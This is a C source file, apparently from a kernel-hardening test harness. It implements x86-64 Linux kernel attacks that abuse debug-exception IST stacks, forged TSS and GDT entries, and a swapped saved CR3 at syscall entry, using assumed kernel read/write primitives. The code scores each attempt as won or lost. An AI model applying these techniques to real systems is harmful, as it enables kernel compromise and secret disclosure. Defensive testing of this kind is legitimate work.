// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of the stacks of IST exceptions. A watchpoint of the process's own
 * is moved, in the kernel's record of it, to where no process may have one. The
 * debug exceptions that follow interrupt the kernel where it suits the attacker:
 * in a section, or at the first instruction of a system call.
 */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "breakpoint.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#include <sys/io.h>

#define CHILD_CPU	1
#define CHILD_PART	0x60
#define SECONDS		10
#define ROOT_SECONDS	4		/* it lands in the first one, if it does */

/* DR7 for DR0: enabled for this task, and what it watches */
#define DR7_ENABLE	1UL
#define DR7_WRITE	(DR7_ENABLE | 1UL << 16 | 2UL << 18)	/* of eight bytes */
#define DR7_EXECUTE	DR7_ENABLE

/* struct tss_struct, of which the CPU reads no more than TSS_SIZE bytes */
#define TSS_SIZE	0x68
#define TSS_IST_DB	(36 + 2 * 8)
#define TSS_IST_MCE	(36 + 3 * 8)

/* A descriptor's two words: the base is in bits 16 to 39, 56 to 63, and in the second. */
#define GDT_TSS		(8 * 8)
#define BASE_LOW	0xff0000ffffff0000UL

#define SOME_PORT	0x80

/* An exception frame: ip, cs, flags, sp, ss; a stack is aligned to 16 bytes. */
#define STACK_SIZE	8192
#define FRAME_SIZE	40
#define FRAME_AT	8
#define FRAME_TOP	(FRAME_AT + FRAME_SIZE)
#define FRAME_CS	1
#define KERNEL_CS	0x10
#define ROOM		3072		/* for the handler, below the frame */

static struct {
	volatile unsigned long rounds;
	volatile uint64_t watched;	/* at first */
	volatile bool found;
	uint64_t secret;
	int pipe[2];
	char text[SECRET_SIZE];
} *child;

typedef void child_function(volatile char *page);

/* It has stopped when this returns. */
static pid_t start_child(child_function *run, volatile char *page)
{
	int status;
	pid_t pid;

	child = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (child == MAP_FAILED || pipe(child->pipe))
		return -1;
	pid = fork();
	if (pid)
		return waitpid(pid, &status, 0) == pid && WIFSTOPPED(status) ? pid : -1;
	stay_on_cpu(CHILD_CPU);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	ptrace(PTRACE_TRACEME, 0, NULL, NULL);
	if (page)
		*page = 1;
	raise(SIGSTOP);
	for (;; child->rounds++)
		run(page);
}

/* The child has a watchpoint there when it goes on. */
static bool watch(pid_t pid, uint64_t dr7, uint64_t at)
{
	uint64_t decoy = (uint64_t)&child->watched;

	return breakpoint_set(pid, dr7, decoy) && breakpoint_move(pid, decoy, at);
}

static void stop(pid_t pid)
{
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

/* ---- ist-pointer: the stack aimed at the kernel's top-level table ---- */

static void write_entry(volatile char *page)
{
	*page = 1;
	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
}

/* What is there is all zero: alignment. */
static bool is_room(uint64_t below)
{
	char bytes[ROOM], zero[ROOM] = "";

	return !kread(below - ROOM, bytes, ROOM) && !memcmp(bytes, zero, ROOM);
}

static bool has_frame(uint64_t table)
{
	return kread64(table + FRAME_AT + FRAME_CS * sizeof(uint64_t)) == KERNEL_CS;
}

static void wait_for_frame(pid_t pid, uint64_t table)
{
	uint64_t end = now_ms() + SECONDS * 1000;

	ptrace(PTRACE_CONT, pid, NULL, NULL);
	while (!has_frame(table) && now_ms() < end)
		usleep(1000);
}

static enum outcome judge_frame(pid_t pid, uint64_t table)
{
	uint64_t words[FRAME_TOP / sizeof(uint64_t)], zero = 0, at;

	if (!has_frame(table))
		return broken("no exception came, after %lu rounds", child->rounds);
	stop(pid);
	kread(table, words, sizeof(words));
	for (at = table - ROOM; at < table + FRAME_TOP; at += sizeof(zero))
		kwrite64(at, zero);
	return won("the CPU pushed a frame to the kernel's top-level table: entries 1 to 3 are %#lx, %#lx, %#lx",
		   words[1], words[2], words[3]);
}

static enum outcome aim_stack(pid_t pid, uint64_t tss, uint64_t table)
{
	uint64_t slot = tss + TSS_IST_DB, old = kread64(slot);
	enum outcome outcome;
	int err;

	err = kwrite64(slot, table + FRAME_TOP);
	if (err)
		return lost("the store to the TSS gave %s", strerror(-err));
	wait_for_frame(pid, table);
	outcome = judge_frame(pid, table);
	stop(pid);
	kwrite64(slot, old);
	return outcome;
}

/* ---- gdt-tss: the same by a TSS of the attacker's own ---- */

/* Each return to user space may then load the TSS again, to have its limit. */
static bool take_ports(void)
{
	return !ioperm(SOME_PORT, 1, 1);
}

/* On the stack of machine checks, which both halves of isolated tables map. */
static uint64_t copy_tss(uint64_t tss)
{
	uint64_t copy = kread64(tss + TSS_IST_MCE) - STACK_SIZE;
	size_t i;

	for (i = 0; i < TSS_SIZE; i += sizeof(uint64_t))
		if (kwrite64(copy + i, kread64(tss + i)))
			return 0;
	return copy;
}

static int set_base(uint64_t descriptor, uint64_t base)
{
	uint64_t low = kread64(descriptor) & ~BASE_LOW;
	int err;

	low |= (base & 0xffffff) << 16 | (base & 0xff000000) << 32;
	err = kwrite64(descriptor, low);
	return err ? err : kwrite64(descriptor + sizeof(low), base >> 32);
}

uint64_t descriptor_base(uint64_t descriptor)
{
	uint64_t low = kread64(descriptor);

	return (low >> 16 & 0xffffff) | (low >> 32 & 0xff000000) |
	       kread64(descriptor + sizeof(low)) << 32;
}

static void have_tss_loaded(void)
{
	bool invalid = true;

	kwrite(ksymbol_cpu("__tss_limit_invalid", CHILD_CPU), &invalid, sizeof(invalid));
}

/* By a task on that CPU which has a right to a port, as we do. */
static void put_back(uint64_t descriptor, uint64_t base)
{
	set_base(descriptor, base);
	have_tss_loaded();
	stay_on_cpu(CHILD_CPU);
	stay_on_cpu(0);
}

static enum outcome forge_tss(pid_t pid, uint64_t tss, uint64_t table)
{
	uint64_t descriptor = ksymbol_cpu("gdt_page", CHILD_CPU) + GDT_TSS;
	uint64_t base = descriptor_base(descriptor), copy = copy_tss(tss);
	enum outcome outcome;
	int err;

	if (!copy || kwrite64(copy + TSS_IST_DB, table + FRAME_TOP))
		return broken("no copy of the TSS");
	err = set_base(descriptor, copy);
	if (err)
		return lost("the store to the GDT gave %s", strerror(-err));
	have_tss_loaded();
	wait_for_frame(pid, table);
	outcome = judge_frame(pid, table);
	put_back(descriptor, base);
	return outcome;
}

/* ---- what both do ---- */

typedef enum outcome aim_function(pid_t pid, uint64_t tss, uint64_t table);

static enum outcome aim_by(aim_function *aim)
{
	uint64_t tss = ksymbol_cpu("cpu_tss_rw", CHILD_CPU), table = ksymbol("init_top_pgt");
	volatile char *page = mmap((void *)user_room(CHILD_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	enum outcome outcome;
	struct slot slot;
	pid_t pid;

	if (!tss || !table || page == MAP_FAILED || !is_room(table))
		return broken("no TSS, or no room below the kernel's top-level table");
	stay_on_cpu(0);
	pid = start_child(write_entry, page);
	if (pid < 0)
		return broken("no child");
	if (kwalk((uint64_t)page, LEVEL_PTE, pid, &slot) || !watch(pid, DR7_WRITE, slot.slot))
		outcome = broken("no entry, or no watchpoint");
	else
		outcome = aim(pid, tss, table);
	stop(pid);
	munmap((void *)page, PAGE_SIZE);
	return outcome;
}

enum outcome ist_pointer(void)
{
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	return aim_by(aim_stack);
}

enum outcome gdt_tss(void)
{
	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!take_ports())
		return broken("no right to a port");
	return aim_by(forge_tss);
}

/* ---- ist-cr3: the saved root, where a system call begins ---- */

/* Whatever root the kernel is on when it reads that. */
static void send_secret(volatile char *page)
{
	(void)page;
	if (write(child->pipe[1], (void *)child->secret, SECRET_SIZE) != SECRET_SIZE)
		return;
	if (read(child->pipe[0], child->text, SECRET_SIZE) == SECRET_SIZE)
		child->found = true;
	pause();
}

static uint64_t root_of(uint64_t cr3)
{
	return cr3 & PTE_PFN_MASK;
}

/* Where the handler keeps the root of user space, by which it was called. */
static uint64_t find_saved_root(uint64_t top, uint64_t root)
{
	static uint64_t words[STACK_SIZE / sizeof(uint64_t)];
	size_t i;

	kread(top - STACK_SIZE, words, STACK_SIZE);
	for (i = 0; i < STACK_SIZE / sizeof(*words); i++)
		if (root_of(words[i]) == root)
			return top - STACK_SIZE + i * sizeof(*words);
	return 0;
}

static enum outcome change_root(uint64_t top, uint64_t root, uint64_t forged)
{
	uint64_t end = now_ms() + ROOT_SECONDS * 1000, at, saved;
	int stores = 0;

	while (!child->found && now_ms() < end) {
		at = find_saved_root(top, root);
		saved = at ? kread64(at) : 0;
		for (; at && !child->found && now_ms() < end; stores++)
			if (root_of(kread64(at)) == root || root_of(kread64(at)) == forged)
				kwrite64(at, forged | (saved & ~PTE_PFN_MASK));
	}
	if (!stores)
		return broken("no saved root found in %lu rounds", child->rounds);
	return child->found ? judge_secret(child->text, 0) :
		lost("%d stores to a saved root, %lu system calls: none ran on it",
		     stores, child->rounds);
}

enum outcome ist_cr3(void)
{
	uint64_t tss = ksymbol_cpu("cpu_tss_rw", CHILD_CPU), entry = ksymbol("entry_SYSCALL_64");
	enum outcome outcome;
	struct task task;
	uint64_t forged;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_child(send_secret, NULL);
	if (pid < 0 || ktask(pid, &task))
		return broken("no child");
	forged = forge_root(task.pgd, &child->secret);
	if (!forged || !tss || !entry || !watch(pid, DR7_EXECUTE, entry)) {
		outcome = broken("no root, or no breakpoint");
	} else {
		ptrace(PTRACE_CONT, pid, NULL, NULL);
		outcome = change_root(kread64(tss + TSS_IST_DB),
				      task.pgd - direct_map_base() + PAGE_SIZE,
				      forged - direct_map_base() + PAGE_SIZE);
		if (outcome != WON && was_killed(pid))
			outcome = lost("the child was killed for its breakpoint");
	}
	stop(pid);
	return outcome;
}

#else

enum outcome ist_cr3(void)
{
	return skipped("x86-64 only");
}

enum outcome ist_pointer(void)
{
	return skipped("x86-64 only");
}

enum outcome gdt_tss(void)
{
	return skipped("x86-64 only");
}

#endif
